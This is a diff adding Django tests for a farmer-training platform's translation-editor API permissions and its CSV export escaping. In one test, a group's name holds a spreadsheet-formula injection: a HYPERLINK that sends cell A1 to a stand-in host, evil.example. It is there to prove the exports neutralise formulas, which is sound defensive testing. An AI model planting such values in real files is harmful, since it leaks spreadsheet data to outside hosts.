@@ -88,3 +88,56 @@ def test_the_listings_offer_their_imports_to_the_platform(client, ghana_platform
 
     assert reverse("training_delivery_roster_import") in farmers
     assert reverse("training_delivery_paper_import") in sessions
+
+
+def localize_api(model, pk=None):
+    meta = model._meta
+    address = f"/admin/localize/api/snippets/{meta.app_label}/{meta.model_name}/"
+    return address + (f"{pk}/" if pk else "")
+
+
+def test_the_translation_editors_api_lists_only_what_the_asker_may_see(
+    client, ghana_platform, group, vietnam_rows
+):
+    farmer, session = vietnam_rows
+    TrainingSessionFactory(group=group, place="Kumasi plot")
+
+    farmers = client.get(localize_api(Farmer)).json()
+    groups = client.get(localize_api(type(group))).json()
+
+    assert {row["title"] for row in farmers} == {str(f) for f in group.farmers.all()}
+    assert [row["id"] for row in groups] == [group.pk]
+    assert client.get(localize_api(Farmer, farmer.pk)).status_code == 404
+    assert client.get(localize_api(TrainingSession, session.pk)).status_code == 404
+    assert client.get(localize_api(type(group), farmer.group_id)).status_code == 404
+
+
+def test_the_translation_editors_api_shows_the_committee_no_farmer(client, group, vietnam_rows):
+    farmer, _ = vietnam_rows
+    client.force_login(UserFactory(groups=[roles.TECHNICAL_COMMITTEE]))
+
+    assert client.get(localize_api(Farmer)).json() == []
+    assert client.get(localize_api(Farmer, farmer.pk)).status_code == 404
+
+
+def test_the_translation_editors_api_needs_admin_access(client, group):
+    client.force_login(UserFactory())
+    response = client.get(localize_api(Farmer))
+    assert response.status_code in (302, 403)
+    assert "M-1" not in response.content.decode()
+
+
+def test_csv_downloads_of_groups_and_farmers_hold_no_formula(client, ghana_platform, group):
+    group.name = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    group.region = "@SUM(A1:A9)"
+    group.save()
+    FarmerFactory(group=group, member_code="+M-9", name="-2+3")
+
+    groups = client.get(url(type(group), "list"), {"export": "csv"})
+    farmers = client.get(url(Farmer, "list"), {"export": "csv"})
+    groups_csv = b"".join(groups.streaming_content).decode()
+    farmers_csv = b"".join(farmers.streaming_content).decode()
+
+    assert "'=HYPERLINK(" in groups_csv and ",=HYPERLINK(" not in groups_csv
+    assert "'@SUM(A1:A9)" in groups_csv
+    assert "'+M-9" in farmers_csv and "'-2+3" in farmers_csv
